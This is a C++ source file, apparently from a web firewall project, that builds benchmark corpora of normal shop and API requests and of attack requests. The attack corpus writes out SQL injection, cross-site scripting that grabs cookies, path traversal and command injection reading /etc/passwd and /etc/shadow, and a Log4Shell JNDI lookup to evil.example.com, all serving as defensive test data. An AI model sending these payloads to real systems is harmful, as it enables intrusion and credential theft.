#include "corpus.h"

namespace rampart::bench {

namespace {

using Headers = std::vector<std::pair<std::string, std::string>>;

Headers Browser(const std::string& referer = "https://shop.example.com/") {
  return {
      {"Host", "shop.example.com"},
      {"User-Agent",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/120.0.0.0 Safari/537.36"},
      {"Accept",
       "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
      {"Accept-Language", "en-US,en;q=0.9,de;q=0.8"},
      {"Accept-Encoding", "gzip, deflate, br"},
      {"Referer", referer},
      {"Cookie", "session=8f3a9c2e7b1d4f6a; cart=3; _ga=GA1.2.1234567890.1700000000; theme=dark"},
      {"Connection", "keep-alive"}};
}

Headers Api(const std::string& content_type = "") {
  Headers h = {
      {"Host", "api.example.com"},
      {"User-Agent", "python-requests/2.31.0"},
      {"Accept", "application/json"},
      {"Accept-Encoding", "gzip, deflate"},
      {"Authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ1c2VyLTQyIn0.c2lnbmF0dXJl"},
      {"X-Request-Id", "7d5e1c7a-2b1f-4bb0-9f43-1e0c9a7b3f21"}};
  if (!content_type.empty()) h.emplace_back("Content-Type", content_type);
  return h;
}

BenchRequest Get(std::string target, Headers h) {
  return {"GET", std::move(target), std::move(h), {}};
}

BenchRequest Post(std::string target, Headers h, std::string body) {
  h.emplace_back("Content-Length", std::to_string(body.size()));
  return {"POST", std::move(target), std::move(h), std::move(body)};
}

}  // namespace

std::vector<BenchRequest> BenignCorpus() {
  std::vector<BenchRequest> out;
  out.push_back(Get("/", Browser()));
  out.push_back(Get("/products?category=shirts&sort=price_asc&page=2&size=M", Browser()));
  out.push_back(Get("/search?q=blue+cotton+shirt&lang=en", Browser()));
  out.push_back(Get("/static/app.9f3a1c.js", Browser()));
  out.push_back(Get("/account/orders/10042", Browser("https://shop.example.com/account")));
  out.push_back(Get("/api/v1/users/42", Api()));
  out.push_back(Get("/api/v1/orders?status=shipped&from=2024-01-01&to=2024-02-01&limit=50", Api()));
  out.push_back(
      Post("/api/v1/orders", Api("application/json"),
           R"({"customer":{"id":42,"name":"Ann O'Brien","email":"ann@example.com"},)"
           R"("items":[{"sku":"SH-001","qty":2,"price":19.99},{"sku":"SO-7","qty":1,"price":4.5}],)"
           R"("shipping":{"street":"1 Main St.","city":"Springfield","zip":"12345"},)"
           R"("note":"Please leave at the door - thanks!"})"));
  out.push_back(Post(
      "/api/v1/events", Api("application/json"),
      R"({"type":"page_view","ts":1700000000123,"props":{"path":"/products","ref":"newsletter",)"
      R"("tags":["summer","sale"],"ab":{"variant":"b","weight":0.5}}})"));
  out.push_back(
      Post("/api/v1/comments", Api("application/json"),
           R"({"post":17,"body":"Great article. I especially liked the part about the )"
           R"(menu, and the 3 < 4 comparison. See https://example.org/docs?a=1&b=2 for more."})"));
  out.push_back(
      Post("/login", Browser("https://shop.example.com/login"),
           "username=ann.obrien%40example.com&password=correct+horse+battery&remember=on"));
  out.back().headers.emplace_back("Content-Type", "application/x-www-form-urlencoded");
  out.push_back(Post("/checkout", Browser("https://shop.example.com/cart"),
                     "name=Ann+O%27Brien&address=1+Main+St.&city=Springfield&zip=12345&country=US&"
                     "card_holder=Ann+O%27Brien&delivery=standard&gift_message=Happy+birthday%21"));
  out.back().headers.emplace_back("Content-Type", "application/x-www-form-urlencoded");
  return out;
}

std::vector<BenchRequest> AttackCorpus() {
  std::vector<BenchRequest> out;
  out.push_back(
      Get("/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", Browser()));
  out.push_back(Get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", Browser()));
  out.push_back(Get("/download?file=../../../../etc/passwd", Browser()));
  out.push_back(Get("/ping?host=127.0.0.1;cat%20/etc/shadow", Browser()));
  out.push_back(Get("/page?tpl=php://filter/convert.base64-encode/resource=index.php", Browser()));
  out.push_back(Get("/api/v1/users?id=1%20AND%20SLEEP(5)", Api()));
  out.push_back(Post("/api/v1/comments", Api("application/json"),
                     R"({"post":17,"body":"<img src=x onerror=alert(1)>"})"));
  out.push_back(Post("/api/v1/search", Api("application/json"),
                     R"({"filter":{"name":"x' OR '1'='1"},"limit":10})"));
  out.push_back(
      Post("/login", Browser("https://shop.example.com/login"), "username=admin%27--&password=x"));
  out.back().headers.emplace_back("Content-Type", "application/x-www-form-urlencoded");
  out.push_back(Post("/api/v1/render", Api("application/json"),
                     R"({"template":"${jndi:ldap://evil.example.com/a}"})"));
  BenchRequest ua = Get("/", Browser());
  ua.headers[1].second = "sqlmap/1.7.2#stable (https://sqlmap.org)";
  out.push_back(ua);
  return out;
}

}  // namespace rampart::bench
